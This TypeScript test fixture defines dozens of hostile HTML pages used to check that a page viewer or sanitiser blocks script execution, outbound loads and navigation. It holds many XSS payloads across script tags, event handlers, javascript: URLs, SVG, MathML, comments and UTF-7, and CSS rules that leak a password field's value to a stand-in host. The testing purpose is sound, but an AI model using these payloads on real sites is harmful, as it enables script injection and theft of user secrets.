// Pages that wait to be read: each tries to run, to call, to lead the reader away or to mark them when its copy is shown.
// What runs sets a global whose name begins with `canary`; what leaves goes to a canary of the hostile site.
import { KEPT, WORDS, type PageCase } from './hostile-case.ts'

const RUN = 'canary=1;parent.canary=1'

const viewer = (name: string, markup: (to: string) => string, head?: (to: string) => string): PageCase => ({
  name: `viewer-${name}`,
  ends: KEPT,
  page({ response, facts }) {
    const to = `http://${facts.canary.near}/${name}`
    response.writeHead(200, {
      'content-type': 'text/html; charset=utf-8',
      'set-cookie': 'stranger=1; Path=/',
    })
    response.end(
      `<!doctype html><html lang="en"><head><title>${name}</title>${head?.(to) ?? ''}</head><body>${WORDS}${markup(to)}</body></html>`,
    )
  },
})

/** Built by a script while it is captured: what no parser would make. */
const built = (name: string, code: (to: string) => string) =>
  viewer(
    name,
    (to) => `<div id="at"></div><script>const at = document.getElementById('at');${code(to)}</script>`,
  )

export const VIEWER_PAGES: readonly PageCase[] = [
  viewer(
    'scripts',
    () =>
      `<script>${RUN}</script><script type="module">${RUN}</script><script src="data:text/javascript,canary=1"></script><svg><script>${RUN}</script></svg>`,
    () => `<script>${RUN}</script>`,
  ),
  viewer(
    'handlers',
    () =>
      `<img src=x onerror="${RUN}"><body onload="${RUN}" onpageshow="${RUN}"><details open ontoggle="${RUN}"><summary>s</summary></details><input autofocus onfocus="${RUN}"><marquee onstart="${RUN}">m</marquee><video onerror="${RUN}"><source src=x></video><p style="animation:a 1s" onanimationstart="${RUN}">p</p><style>@keyframes a{to{color:red}}</style>`,
  ),
  viewer(
    'refresh',
    (to) =>
      `<meta http-equiv="refresh" content="60;url=${to}"><meta http-equiv="set-cookie" content="stranger=2"><meta http-equiv="x-dns-prefetch-control" content="on">`,
    (to) =>
      `<meta http-equiv="Refresh" content="90; URL=javascript:${RUN}"><noscript><meta http-equiv="refresh" content="0;url=${to}/noscript"></noscript>`,
  ),
  viewer(
    'base',
    () => '<a href="next">next</a><img src="picture">',
    (to) => `<base href="${to}/" target="_top">`,
  ),
  viewer(
    'frames',
    (to) =>
      `<iframe src="${to}/iframe" allow="camera *"></iframe><iframe src="javascript:${RUN}"></iframe><iframe src="data:text/html,<script>${RUN}</script>"></iframe><frameset><frame src="${to}/frame"></frameset>`,
  ),
  viewer(
    'srcdoc',
    (to) =>
      `<iframe srcdoc="<script>${RUN.replaceAll('"', '')}</script><img src='${to}/srcdoc'><meta http-equiv=refresh content='0;url=${to}/srcdoc-refresh'><base target=_top><a href='${to}/top'>top</a>"></iframe><iframe srcdoc="&lt;iframe srcdoc='&amp;lt;script&amp;gt;${RUN.replaceAll('"', '')}&amp;lt;/script&amp;gt;'>"></iframe>`,
  ),
  viewer(
    'objects',
    (to) =>
      `<object data="${to}/object" type="text/html"><param name="src" value="${to}/param"></object><embed src="${to}/embed"><object data="data:text/html,<script>${RUN}</script>"></object><embed src="javascript:${RUN}"><applet code="${to}/applet" archive="${to}/archive"></applet>`,
  ),
  viewer(
    'svg-use',
    (to) =>
      `<svg><use href="${to}/use#x"/><use href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' id='x' onload='${RUN}'/>#x"/><image href="${to}/image" width="9" height="9"/><feImage href="${to}/fe"/><a href="javascript:${RUN}"><text y="9">link</text></a></svg>`,
  ),
  viewer(
    'svg-animates',
    (to) =>
      `<svg><a><animate attributeName="href" values="javascript:${RUN}" begin="0s" dur="1s" fill="freeze"/><set attributeName="xlink:href" to="javascript:${RUN}"/><text y="20">animated</text></a><image width="9" height="9"><set attributeName="href" to="${to}/set" begin="0s"/></image><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  ),
  viewer(
    'svg-styles',
    (to) =>
      `<svg><style>@import "${to}/svg-import"; rect { fill: url(${to}/svg-fill#x); filter: url("${to}/svg-filter#x") }</style><rect width="9" height="9"/><foreignObject width="99" height="99"><iframe src="${to}/foreign"></iframe><body onload="${RUN}"></foreignObject></svg>`,
  ),
  viewer(
    'css-imports',
    (to) =>
      `<style>@import "${to}/a";@import url(${to}/b) layer(x) supports(display:block) screen;@\\69mport "${to}/c";@namespace "${to}/ns";</style><link rel="stylesheet" href="data:text/css,@import '${to}/d'">`,
    (to) =>
      `<link rel="stylesheet" href="${to}/sheet"><link rel="alternate stylesheet" href="${to}/alternate" title="a">`,
  ),
  viewer(
    'css-leaks',
    (to) =>
      `<input name="token" value="secret-abc" type="password"><style>input[value^="s"]{background:url(${to}/s)}input[value*="abc"]{background-image:image-set("${to}/abc" 1x)}@font-face{font-family:leak;src:url(${to}/font);unicode-range:U+0041}input,p{font-family:leak}p::after{content:"A" url(${to}/content)}a:visited{background:url(${to}/visited)}</style>`,
  ),
  viewer(
    'css-notations',
    (to) =>
      `<style>p{background:u\\72l("${to}/escaped");--x:url(${to}/variable);background:var(--x);list-style:url(${to}/list);cursor:url(${to}/cursor),auto;border-image:url(${to}/border) 1;mask:url(${to}/mask);filter:url(${to}/filter#f);clip-path:url(${to}/clip#c);offset-path:url(${to}/path#p);shape-outside:url(${to}/shape)}@property --y{syntax:"<url>";inherits:false;initial-value:url(${to}/property)}</style><p style="background:URL( '${to}/inline' )">p</p><p style="background:src('${to}/src')">p</p>`,
  ),
  viewer(
    'css-breaks-out',
    () =>
      `<style>p::after{content:"</sty\\00006Ce><script>${RUN}</script>"}</style><style>/*</style/x><img src=x onerror="${RUN}">*/</style><p style='content:"</p><script>${RUN}</script>"'>p</p>`,
  ),
  viewer(
    'forms',
    (to) =>
      `<form action="${to}/form" method="post" target="_top"><input name="q" value="x"><button>send</button><button formaction="javascript:${RUN}" formtarget="_top">js</button><input type="image" src="${to}/image" formaction="${to}/formaction"><input type="submit"></form><button form="far" formaction="${to}/far">far</button><form id="far"></form><isindex action="${to}/isindex">`,
  ),
  viewer(
    'dialog-forms',
    (to) =>
      `<dialog open><form method="dialog" action="${to}/dialog"><button formmethod="get" formaction="${to}/dialog-button">ok</button></form></dialog><search><form action="${to}/search"><input type="search"></form></search><select onchange="${RUN}"><option>a<option>b</select>`,
  ),
  viewer(
    'links',
    (to) =>
      `<a id="top" href="${to}/top" target="_top">top</a><a href="${to}/parent" target="_parent" ping="${to}/ping">parent</a><a href="javascript:${RUN}">js</a><a href="java&#9;script:${RUN}">tab</a><a href="&#1;javascript:${RUN}">control</a><a href="data:text/html,<script>${RUN}</script>">data</a><a href="vbscript:x">vb</a><a href="blob:x">blob</a><a href="filesystem:x">fs</a><a href="intent://x#Intent;scheme=http;end">intent</a><map name="m"><area href="javascript:${RUN}" shape="default"></map><img usemap="#m" width="20" height="20" src="data:,">`,
  ),
  viewer(
    'links-by-key',
    () =>
      `<a href="javascript:${RUN}" accesskey="x" autofocus tabindex="1">key</a><label for="f">label</label><input id="f" onclick="${RUN}" type="checkbox"><button popovertarget="pop" onclick="${RUN}">pop</button><div id="pop" popover onbeforetoggle="${RUN}">p</div><button command="show-modal" commandfor="d">d</button><dialog id="d" onclose="${RUN}">d</dialog>`,
  ),
  viewer(
    'mathml',
    (to) =>
      `<math><maction actiontype="statusline#${to}" xlink:href="javascript:${RUN}"><mtext href="javascript:${RUN}">m</mtext></maction><mi href="javascript:${RUN}">x</mi><mtext><mglyph src="${to}/glyph"/><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;"></mtext><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  ),
  viewer(
    'import-map',
    (to) => `<script type="module">import "evil"</script><link rel="modulepreload" href="${to}/module">`,
    (to) =>
      `<script type="importmap">{"imports":{"evil":"data:text/javascript,globalThis.canary=1","other":"${to}/mapped"}}</script>`,
  ),
  viewer(
    'speculation',
    (to) =>
      `<script type="speculationrules">{"prefetch":[{"urls":["${to}/a"],"eagerness":"immediate"}],"prerender":[{"urls":["${to}/b"],"eagerness":"immediate"}]}</script><script type="webbundle">{"source":"${to}/bundle","resources":["${to}/c"]}</script>`,
    (to) =>
      [
        'prefetch',
        'prerender',
        'preload',
        'preconnect',
        'dns-prefetch',
        'manifest',
        'icon',
        'apple-touch-icon',
        'pingback',
        'search',
        'compression-dictionary',
        'expect',
      ]
        .map((rel) => `<link rel="${rel}" as="image" href="${to}/${rel}">`)
        .join(''),
  ),
  viewer(
    'shadow',
    (to) =>
      `<div><template shadowrootmode="open"><script>${RUN}</script><img src=x onerror="${RUN}"><style>:host{background:url(${to}/host)}@import "${to}/import";</style><link rel="stylesheet" href="${to}/sheet"><slot></slot></template>light</div><div><template shadowrootmode="closed" shadowrootclonable shadowrootserializable><iframe src="${to}/closed"></iframe></template></div>`,
  ),
  viewer(
    'noscript',
    (to) =>
      `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript><noscript><img src="${to}/noscript"><iframe src="${to}/frame"></iframe><style>@import "${to}/import";</style></noscript>`,
    (to) =>
      `<noscript><link rel="stylesheet" href="${to}/head"><style>body{background:url(${to}/bg)}</style></noscript>`,
  ),
  viewer(
    'templates',
    (to) =>
      `<template><script>${RUN}</script><img src="${to}/template" onerror="${RUN}"></template><table><template><tr><td><script>${RUN}</script></template></table><select><template><option><img src="${to}/option"></template></select>`,
  ),
  viewer(
    'media',
    (to) =>
      `<video src="${to}/video" poster="${to}/poster" autoplay controls><source src="${to}/source"><track default src="${to}/track"></video><audio src="${to}/audio" autoplay></audio><picture><source srcset="${to}/picture 1x, ${to}/picture2 2x"><img src="${to}/img" srcset="${to}/srcset 100w" sizes="100vw" lowsrc="${to}/low" dynsrc="${to}/dyn" longdesc="${to}/long"></picture><bgsound src="${to}/sound"><table background="${to}/table"><tr><td background="${to}/td"></table>`,
  ),
  viewer(
    'attributes-that-break',
    (to) =>
      `<img alt="\`><script>${RUN}</script>" title='"><img src=x onerror=${RUN}>'><p title="&quot;&gt;&lt;script&gt;${RUN}&lt;/script&gt;" data-x="'/onload=${RUN}//" class="${to}">p</p><p lang='"><svg onload=${RUN}>'>lang</p>`,
  ),
  viewer(
    'raw-text',
    () =>
      `<xmp></xmp><textarea></textarea><title></title><style></style><iframe></iframe><noembed></noembed><noframes></noframes><script>for (const name of ['xmp', 'textarea', 'title', 'style', 'noembed', 'noframes']) for (const one of document.querySelectorAll(name)) one.append('</' + name + '><script>${RUN}<\\/script><img src=x onerror="${RUN.replaceAll('"', '&quot;')}">')</script>`,
  ),
  built(
    'odd-trees',
    () => `const make = (space, name) => document.createElementNS(space, name); const payload = '<img src=x onerror=canary=1><script>canary=1<\\/script>'
for (const space of ['http://www.w3.org/1999/xhtml', 'http://www.w3.org/2000/svg', 'http://www.w3.org/1998/Math/MathML', 'urn:x']) for (const name of ['style', 'script', 'xmp', 'title', 'math', 'svg', 'plaintext', 'noscript', 'template', 'iframe', 'annotation-xml']) { const one = make(space, name); one.append(payload); at.append(one); const two = make(space, 'div'); two.append(one.cloneNode(true)); at.append(two) }`,
  ),
  built(
    'odd-attributes',
    (
      to,
    ) => `const p = document.createElement('p'); for (const [name, value] of [['onclick', 'canary=1'], ['style', 'background:url(${to}/style)'], ['is', 'x'], ['nonce', 'x'], ['ping', '${to}']]) p.setAttribute(name, value); at.append(p)
try { const a = document.createAttributeNS('urn:x', 'x:onload'); a.value = 'canary=1'; p.setAttributeNode(a) } catch {}
const xlink = document.createElementNS('http://www.w3.org/2000/svg', 'image'); xlink.setAttributeNS('http://www.w3.org/1999/xlink', 'evil:href', '${to}/xlink'); const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); svg.append(xlink); at.append(svg)`,
  ),
  built(
    'comments',
    () =>
      `for (const text of ['--><script>canary=1<\\/script>', '--!><img src=x onerror=canary=1>', '><img src=x onerror=canary=1>', '->', '[if IE]><script>canary=1<\\/script><![endif]']) at.append(document.createComment(text)); document.insertBefore(document.createComment('--><script>canary=1<\\/script>'), document.documentElement); document.append(document.createProcessingInstruction('xml-stylesheet', 'href="data:text/css,x"'))`,
  ),
  built(
    'documents',
    (
      to,
    ) => `const frame = document.createElement('iframe'); at.append(frame); frame.contentDocument.write('<script>parent.canary=1<\\/script><img src="${to}/written"><a target=_top href="${to}/top">x</a>')
const blob = document.createElement('iframe'); blob.src = URL.createObjectURL(new Blob(['<script>canary=1;parent.canary=1<\\/script>words'], { type: 'text/html' })); at.append(blob)
const object = document.createElement('object'); object.data = blob.src; at.append(object)`,
  ),
  built(
    'custom-elements',
    (
      to,
    ) => `customElements.define('x-evil', class extends HTMLElement { connectedCallback() { globalThis.canary = 1; this.attachShadow({ mode: 'closed' }).innerHTML = '<img src="${to}/closed" onerror="canary=1"><slot></slot>' } }); at.innerHTML = '<x-evil>evil</x-evil><button is="x-button">b</button>'
const sheet = new CSSStyleSheet(); sheet.replaceSync('p{background:url(${to}/adopted)}'); document.adoptedStyleSheets = [sheet]`,
  ),
  built(
    'state',
    (
      to,
    ) => `document.cookie = 'stranger=3; path=/'; localStorage.canary = 1; sessionStorage.canary = 1; name = 'canary'; history.replaceState({ canary: 1 }, '', '?canary'); document.domain
onbeforeunload = (event) => event.preventDefault(); const canvas = document.createElement('canvas'); canvas.textContent = '<img src=x onerror=canary=1>'; at.append(canvas); document.designMode = 'on'
navigator.registerProtocolHandler?.('web+canary', location.origin + '/?%s'); const image = new Image(); image.src = '${to}/state'; at.append(image)`,
  ),
  viewer(
    'encoded',
    () =>
      `+ADw-script+AD4-canary+AD0-1+ADw-/script+AD4- \u2028\u2029 <p title="\u0000\u001b(J\ufeff">\ufffe &#x0; &#xd800; &#x110000; &lt;script&gt;canary=1&lt;/script&gt;</p><!--\u0000--><?xml version="1.0" encoding="utf-7"?><![CDATA[<script>canary=1</script>]]>`,
    () => '<meta charset="utf-7"><meta http-equiv="content-type" content="text/html; charset=iso-2022-jp">',
  ),
]
